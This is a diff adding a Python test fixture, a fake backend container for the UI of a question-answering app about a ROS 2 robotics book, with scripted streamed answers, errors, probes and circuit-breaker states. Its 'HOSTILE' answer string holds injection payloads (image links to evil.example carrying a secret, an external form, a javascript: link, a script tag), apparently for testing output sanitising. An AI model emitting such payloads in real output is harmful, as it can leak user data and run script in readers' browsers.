@@ -1,0 +1,177 @@
+"""A container for the UI: scripted answers, a report with every kind of row, nothing behind it."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncGenerator, Iterable
+from datetime import UTC, datetime
+from typing import Any
+
+from backend.domain import (
+    Answer,
+    AnswerEvent,
+    Check,
+    Citation,
+    DocumentRecord,
+    DoneEvent,
+    Mode,
+    Principal,
+    Question,
+    SourcesEvent,
+    Status,
+    TokenEvent,
+    Usage,
+)
+from backend.errors import UpstreamTimeout
+from backend.services.diagnostics import Diagnostics
+from backend.services.readiness import Probe
+from backend.settings import load
+
+ADMIN_TOKEN = "test-token-not-real"
+WHEN = datetime(2026, 3, 1, 12, tzinfo=UTC)
+
+CITATIONS = (
+    Citation(
+        1,
+        "ROS 2 Fundamentals",
+        ("ROS 2 Fundamentals", "Nodes and Topics", "Publishing"),
+        "https://book.example/ros2/fundamentals#publishing",
+        "ros2/fundamentals.md",
+        "A publisher sends messages to a named topic.\n\nAny number of subscribers may listen <b>.",
+        0.91,
+    ),
+    Citation(
+        2,
+        "Digital Twins",
+        ("Digital Twins", "Gazebo"),
+        "/read/digital-twins/gazebo#physics",
+        "digital-twins/gazebo.md",
+        "Gazebo steps the physics engine at a fixed rate.",
+        0.74,
+    ),
+)
+ANSWER = """\
+A node publishes on a **topic**, and every subscriber of that topic gets the message [1][2].
+
+1. Create the publisher once, when the node starts.
+2. Publish from a timer, at a fixed rate [2].
+
+```python
+publisher = node.create_publisher(String, "chatter", 10)
+scores[1] = publisher.publish(String(data="<b>hello</b>"))
+```
+
+| Part | Rate |
+|---|---|
+| Physics | 1,000 Hz |
+| Camera | 30 Hz |
+
+Use `create_timer` for the rate.
+"""
+HOSTILE = """\
+Look ![x](https://evil.example/a.png?q=secret) and <img src="https://evil.example/b.png">
+<form action="https://evil.example/"><input name="q"><button>go</button></form>
+[click](javascript:alert(1)) <script>alert(1)</script> ![r][r]
+
+[r]: https://evil.example/c.png
+"""
+
+
+class FakeAnswering:
+    """Streams what the question asks for; ``slow`` never ends, ``fail`` breaks off."""
+
+    def __init__(self, pause_s: float = 0.0) -> None:
+        self.pause_s = pause_s
+        self.questions: list[Question] = []
+        self.principals: list[Principal] = []
+        self.cut = 0
+
+    async def answer(
+        self, question: Question, principal: Principal
+    ) -> AsyncGenerator[AnswerEvent, None]:
+        self.questions.append(question)
+        self.principals.append(principal)
+        word = question.text.split()[0]
+        refused = word == "unknown"
+        citations = () if word == "hostile" else CITATIONS
+        yield SourcesEvent(citations)
+        text = {"hostile": HOSTILE, "unknown": "I could not find this in the book."}.get(
+            word, ANSWER
+        )
+        try:
+            for piece in text.splitlines(keepends=True):
+                yield TokenEvent(piece)
+                await asyncio.sleep(self.pause_s)
+                if word == "slow":
+                    await asyncio.sleep(3600)
+                if word == "fail":
+                    raise UpstreamTimeout("openai", "The model gave no answer within 20 s.")
+                if word == "bug":
+                    raise RuntimeError("postgresql://user:password@db/x")
+        except (asyncio.CancelledError, GeneratorExit):
+            self.cut += 1
+            raise
+        mode = Mode.REFUSED if refused else Mode.EXTRACTIVE
+        generated = word not in ("unknown", "extractive")
+        yield DoneEvent(
+            Answer(
+                text,
+                Mode.GENERATED if generated else mode,
+                citations,
+                "session",
+                "message",
+                degraded="The model is away: quoted instead." if word == "extractive" else None,
+                usage=Usage(900, 304) if generated else Usage(),
+                timings_ms={"embed": 41.0, "search": 12.3, "generate": 1180.0, "total": 1240.0},
+            )
+        )
+
+
+class FakeIngestion:
+    """A book of four chapters."""
+
+    titles = ("Introduction", "Chapter 1: ROS 2 Fundamentals", "Digital Twins", "Isaac Sim")
+
+    async def documents(self) -> list[DocumentRecord]:
+        return [
+            DocumentRecord(f"{n}.md", title, f"{n}", "0", 3, WHEN)
+            for n, title in enumerate(self.titles)
+        ]
+
+
+def _probes() -> Iterable[Probe]:
+    async def down() -> Check:
+        return Check("qdrant", Status.DOWN, "Nobody answers there.", "See that the server is up.")
+
+    async def fine() -> Check:
+        return Check("openai", Status.OK)
+
+    return (Probe("qdrant", down), Probe("openai", fine))
+
+
+class FakeContainer:
+    """What the UI needs, with settings from an environment given as a dictionary."""
+
+    def __init__(self, environ: dict[str, str] | None = None, *, pause_s: float = 0.0) -> None:
+        loaded = load(environ or {})
+        self.settings = loaded.settings.model_copy(update={"docs_path": "book"})
+        self.answering = FakeAnswering(pause_s)
+        self.ingestion = FakeIngestion()
+        self.diagnostics = Diagnostics(loaded, tuple(_probes()), now=lambda: WHEN)
+        self.stopping = asyncio.Event()
+
+    def circuits(self) -> dict[str, dict[str, Any]]:
+        closed = {
+            "state": "closed",
+            "failure_count": 0,
+            "failure_threshold": 5,
+            "retry_after_s": None,
+            "last_failure_at": None,
+            "last_error_kind": None,
+        }
+        failed = {"last_failure_at": "2026-03-01T11:58:02.120Z", "last_error_kind": "refused"}
+        opened = {**closed, **failed, "state": "open", "failure_count": 5, "retry_after_s": 21.4}
+        return {"openai": closed, "qdrant": opened, "database": closed}
+
+    async def ready(self) -> None:
+        return
